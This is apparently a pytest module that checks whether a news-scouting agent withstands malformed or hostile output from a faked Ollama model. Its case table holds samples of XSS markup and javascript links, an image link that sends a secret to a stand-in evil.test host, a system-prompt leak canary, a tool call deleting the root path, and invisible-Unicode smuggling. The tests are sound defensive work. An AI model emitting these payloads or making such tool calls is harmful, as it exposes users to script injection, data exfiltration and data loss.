"""L01-L25: a model that answers badly, over Ollama's wire; every run ends, and is stored so.

Bad words never end a run: the model is asked again, then read as lines, then code answers. Only a
model that is not there does; that is the platform's fault, and the run is tried again.
"""

from __future__ import annotations

import json
import math
import re
import time
from collections.abc import AsyncIterator
from typing import Any

import pytest
import pytest_asyncio

from scout_cli.app import App
from scout_cli.config import Settings
from scout_cli.core.asking import Asking
from scout_cli.core.job import Result
from scout_cli.core.models import Execution
from scout_cli.core.ports import Embedder, Reasoner
from scout_cli.errors import ModelUnavailable
from scout_cli.llm import ModelSettings, open_chat, open_embedder
from scout_cli.llm.builtin import BuiltIn, LexicalEmbedder
from scout_cli.service.clocks import SystemClock
from scout_cli.service.kit import Kit
from scout_cli.service.wishes import Wish
from scout_cli.store import executions
from scout_cli.testing import CannedSearch, CannedWeb
from tests.agent_world import COMPANY, GOAL, PAPER, PRICE, ROUTE, hits
from tests.ollama_server import CHAT, EMBEDDER, OllamaServer, Says
from tests.security.test_hostile_pages import resident

pytestmark = pytest.mark.asyncio(loop_scope="module")

LEAK = "You are the careful assistant"
EVIL = "https://evil.test/x"
_LINKS = re.compile(r"\]\(([^)]*)\)")


def extracted(**claim: Any) -> dict[str, Any]:
    """Return an answer of the reader with one claim."""
    return {"facts": [{"fact": ROUTE, "quote": ROUTE, "date": "", **claim}]}


def answering(reader: Any = None, **forms: Any) -> Any:
    """Return a script that fills each form as told, and those not named with nothing."""
    told = {"ExtractAnswer": reader if reader is not None else extracted(), **forms}

    def script(request: dict[str, Any]) -> str | Says:
        title = (request.get("format") or {}).get("title", "")
        answer = told.get(title, told.get("any", {}))
        return answer if isinstance(answer, (str, Says)) else json.dumps(answer)

    return script


def everything(answer: str | Says) -> Any:
    """Return a script that always says the same."""
    return lambda _request: answer


GOOD = json.dumps(extracted())
MANY = [json.dumps({"queries": [f"q {number}" for number in range(10_000)]})]
"""In one piece: a word at a time they would keep the fake server busy for seconds."""
ANSWERED: dict[str, Any] = {
    "L01 empty": everything(""),
    "L02 prose around": answering(f"Sure! Here you are:\n{GOOD}\nAnything else?"),
    "L03 fences": answering(f"```json\n{GOOD}\n```"),
    "L04 truncated": everything(GOOD[:40]),
    "L04 cut": everything(Says(text=GOOD[:40], done_reason="length")),
    "L05 extra keys": answering({**extracted(), "tool": "rm", "facts2": [1]}),
    "L06 wrong types": everything('{"facts": "true", "queries": 1, "items": {}, "sentence": []}'),
    "L07 unknown enum": answering(extracted(date={"kind": "HACKED"})),
    "L08 10,000 queries": answering(PlanAnswer=Says(pieces=MANY)),
    "L09 long queries": answering(PlanAnswer={"queries": ["x" * 5_000, "site:evil.test a\nb"]}),
    "L10 foreign address": answering(
        WriteAnswer={"items": [f"The ferry sails, see {EVIL} [S1]", f"[x]({EVIL}) [S1]"]}
    ),
    "L11 cites what is not there": answering(WriteAnswer={"items": [f"{ROUTE} [S9]", ROUTE]}),
    "L12 invented quote": answering(extracted(quote="This sentence stands in no page at all.")),
    "L13 script address": answering(
        WriteAnswer={"items": [f"{ROUTE} [here](javascript:alert(1)) [S1]"]}
    ),
    "L14 markup": answering(
        extracted(fact=f"<script>alert(1)</script><svg onload=x> {ROUTE}"),
        WriteAnswer={"items": [f"<img src=x onerror=alert(1)> {ROUTE} [S1]"]},
        SummaryAnswer={"sentence": "<b style='x'>The ferry</b>"},
    ),
    "L15 picture": answering(
        WriteAnswer={"items": [f"![x](https://evil.test/?q=SECRET) {ROUTE} [S1]"]}
    ),
    "L16 canary": answering(
        extracted(fact=f"{LEAK} of a news scout."),
        WriteAnswer={"items": [f"{LEAK} of a news scout [S1]"]},
        SummaryAnswer={"sentence": f"{LEAK} of a news scout."},
    ),
    "L17 unknown tool": everything(Says(tool_calls=[{"name": "rm", "arguments": {"path": "/"}}])),
    "L18 invisible": answering(extracted(fact="\u202e" + "\u200b".join(ROUTE) + "\U000e0041")),
    "L19 100 MB": everything(Says(pieces=["x" * 1_000_000] * 100)),
    "L20 newlines": everything(Says(pieces=["\n" * 100_000] * 100)),
    "L23 thinking in the content": answering(f"<think>{EVIL} hmm {LEAK}</think>{GOOD}"),
}
ABSENT: dict[str, Any] = {
    "L21 an error in the stream": everything(Says(pieces=["{"], error="model runner has stopped")),
    "L22 no end": everything(Says(pieces=["{"], done=False)),
    "L22 cut off": everything(Says(pieces=["{"], drop=True)),
}


class Answered(App):
    """The app with a canned web, and with the model and the embedder of one case."""

    reasoner: Reasoner
    embedding: Embedder = LexicalEmbedder()

    async def kit(self) -> Kit:
        """Return them; the database alone is real."""
        return Kit(
            reasoner=self.reasoner,
            embedder=self.embedding,
            search=CannedSearch(hits(COMPANY, PAPER)),
            fetcher=CannedWeb([COMPANY, PAPER]),
        )


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def app(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Answered]:
    """Yield one app, and one database, for all cases."""
    path = tmp_path_factory.mktemp("answers") / "scout.db"
    async with Answered.open(Settings(database_url=f"sqlite:///{path}", ballast=0)) as opened:
        yield opened


async def ran(app: Answered, script: Any) -> tuple[Result | ModelUnavailable, Execution]:
    """Run a new scout with a model that follows `script`; return also what is stored of it."""
    async with OllamaServer(script) as server:
        settings = ModelSettings(num_ctx=8_192)
        chat = await open_chat(f"ollama://{server.host}/{CHAT}", settings)
        try:
            app.reasoner = Asking(chat, SystemClock().uuid)
            return await stored(app)
        finally:
            await chat.aclose()


async def stored(app: Answered) -> tuple[Result | ModelUnavailable, Execution]:
    """Run a new scout; return what became of it, and what the database says."""
    wish = Wish(goal=GOAL, title="Ferries", queries=("saltmere ferries",))
    scout = (await (await app.scouts()).add(wish)).scout
    ended: Result | ModelUnavailable
    try:
        ended = await (await app.runs()).run(scout, _ignore)
    except ModelUnavailable as absent:
        ended = absent
    (kept,) = await executions.of_scout(await app.database(), scout.id, 5)
    assert kept.state in ("completed", "failed")
    assert kept.completed_at is not None
    assert (kept.lease_owner, kept.lease_until) == (None, None)
    return ended, kept


async def _ignore(_: object) -> None:
    pass


def check_failed(ended: Result | ModelUnavailable, kept: Execution, *, retryable: bool) -> None:
    """Check that a run failed for want of a model, and whether another try is worth it."""
    assert isinstance(ended, ModelUnavailable)
    assert ended.retryable is retryable
    assert ended.hint
    assert (kept.status, kept.state, kept.outcome) == ("failed", "failed", "failed")
    assert (kept.error_class, kept.error_message) == (ended.code, ended.message)
    assert [problem.retryable for problem in kept.problems] == [retryable]


@pytest.mark.parametrize("case", ANSWERED)
async def test_a_bad_answer_never_ends_a_run(app: Answered, case: str) -> None:
    """The run ends with the true news, and nothing that the model made up is in it."""
    before, began = resident(), time.monotonic()
    result, kept = await ran(app, ANSWERED[case])
    assert isinstance(result, Result)
    assert (kept.status, kept.state, kept.outcome) == ("completed", "completed", "new")
    assert (kept.error_class, kept.error_message) == (None, None)
    assert kept.results_summary == result.results_summary
    assert time.monotonic() - began < 15
    assert resident() - before < 64 * 1024 * 1024
    assert result.outcome == "new"
    assert {fact.quote for fact in result.facts} & {ROUTE, PRICE}
    brief = result.results_summary.response
    words = f"{brief} {result.summary} {' '.join(fact.fact for fact in result.facts)}"
    assert set(_LINKS.findall(brief)) <= {COMPANY.url, PAPER.url}
    assert not re.search(r"[<>]|!\[|javascript:|onerror|\[S9\]", brief)
    assert not [word for word in ("evil.test", LEAK, "HACKED", "SECRET") if word in words]
    assert not re.search("[\u200b\u202e\U000e0041]", words)
    assert all(len(line) < 1_000 for line in brief.splitlines())


async def test_a_summary_is_one_sentence(app: Answered) -> None:
    """What a small model says behind it, until it is cut off, is not told."""
    items = {"items": [f"{ROUTE} [S1]"]}
    more = {"sentence": f"{ROUTE} The new route is the route to"}
    result, _ = await ran(app, answering(WriteAnswer=items, SummaryAnswer=more))
    assert isinstance(result, Result)
    assert result.summary == ROUTE


@pytest.mark.parametrize("case", ABSENT)
async def test_a_model_that_breaks_off_is_absent(app: Answered, case: str) -> None:
    """That is no answer: the run fails with a class that is tried again."""
    check_failed(*await ran(app, ABSENT[case]), retryable=True)


@pytest.mark.parametrize(
    "vectors",
    [
        [[0.1] * 7, [0.1] * 8],
        [[math.nan] * 8],
        [[0.0] * 8],
        [[]],
        [],
    ],
    ids=["L24 lengths", "L24 NaN", "L24 zeros", "L24 empty", "L24 none"],
)
async def test_a_vector_that_cannot_be_is_not_stored(
    app: Answered, vectors: list[list[float]]
) -> None:
    """L24: the embedder is absent then, and the run fails; nothing is compared with nonsense."""

    def answer(request: dict[str, Any]) -> Says:
        texts = range(len(request["input"]) if vectors else 0)
        said = [vectors[min(at, len(vectors) - 1)] for at in texts]  # the last one for the rest
        return Says(raw=json.dumps({"embeddings": said}).encode())

    async with OllamaServer(embed=answer) as server:
        settings = ModelSettings(num_ctx=8_192)
        embedder = await open_embedder(f"ollama://{server.host}/{EMBEDDER}", settings)
        app.reasoner, app.embedding = BuiltIn(), embedder
        try:
            check_failed(*await stored(app), retryable=False)
        finally:
            app.embedding = LexicalEmbedder()
            await embedder.aclose()


async def test_success_without_a_source_is_no_success(app: Answered) -> None:
    """L25: where no page has anything to say, a model that claims success is not believed."""
    script = answering({"facts": []}, WriteAnswer={"items": ["HACKED [S1]"]})
    result, kept = await ran(app, script)
    assert isinstance(result, Result)
    assert (kept.status, kept.state, kept.outcome) == ("completed", "completed", "nothing_new")
    assert kept.results_summary == result.results_summary
    assert result.results_summary.task_status == "not_found"
    assert not result.results_summary.task_completed
